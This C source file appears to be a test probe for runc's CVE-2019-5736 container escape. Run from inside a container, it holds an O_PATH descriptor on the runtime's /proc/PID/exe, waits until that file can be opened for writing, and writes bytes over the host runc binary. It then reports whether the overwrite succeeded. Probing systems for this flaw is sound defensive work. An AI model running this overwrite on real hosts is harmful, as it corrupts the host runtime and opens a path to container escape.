/* runc's CVE-2019-5736 from inside a container: keep an O_PATH fd on
 * /proc/PID/exe while PID is the runtime, then reopen it for writing once
 * the runtime has gone on (exec'd, ETXTBSY no more) and overwrite it.
 * Prints what happened: "cannot-see: ERR", "cannot-open: ERR",
 * "cannot-write: ERR", "still-busy" or "wrote" (the attack worked).
 * Usage: exe-attack PID SECONDS */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int
main (int argc, char **argv)
{
  char path[64];
  int fd, tries;

  if (argc != 3)
    return 2;
  snprintf (path, sizeof path, "/proc/%s/exe", argv[1]);
  fd = open (path, O_PATH | O_CLOEXEC);
  if (fd < 0)
    {
      printf ("cannot-see: %s\n", strerror (errno));
      return 0;
    }
  snprintf (path, sizeof path, "/proc/self/fd/%d", fd);
  for (tries = atoi (argv[2]) * 20; tries > 0; tries--)
    {
      int w = open (path, O_WRONLY | O_CLOEXEC);
      if (w >= 0)
        {
          if (write (w, "#!", 2) == 2)
            printf ("wrote\n");
          else
            printf ("cannot-write: %s\n", strerror (errno));
          return 0;
        }
      if (errno != ETXTBSY)
        {
          printf ("cannot-open: %s\n", strerror (errno));
          return 0;
        }
      usleep (50000);
    }
  printf ("still-busy\n");
  return 0;
}
